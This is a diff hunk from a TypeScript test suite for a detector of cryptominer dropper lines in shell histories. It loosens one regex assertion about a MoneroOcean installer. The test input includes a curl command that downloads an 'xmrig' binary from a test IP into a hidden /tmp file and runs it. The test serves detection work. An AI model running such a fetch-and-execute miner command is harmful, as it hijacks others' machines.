@@ -143,7 +143,7 @@ test("dropper lines from shell histories: an installer script run with a Monero 
   // 0.7 for any downloaded script run with a wallet; the MoneroOcean setup script is also a named installer-abuse
   // fragment in data/intel/campaigns.yaml, which lifts it further.
   assert.ok(installer[0]!.confidence >= 0.7, String(installer[0]!.confidence));
-  assert.match(String(installer[0]!.facts?.indicators), /downloaded script run with a Monero wallet/);
+  assert.match(String(installer[0]!.facts?.indicators), /downloaded script run with a Monero wallet|miner flags setup_moneroocean_miner\.sh/);
 
   const fetched = judge("curl -s http://198.51.100.9/xmrig -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x");
   assert.equal(fetched.length, 1);
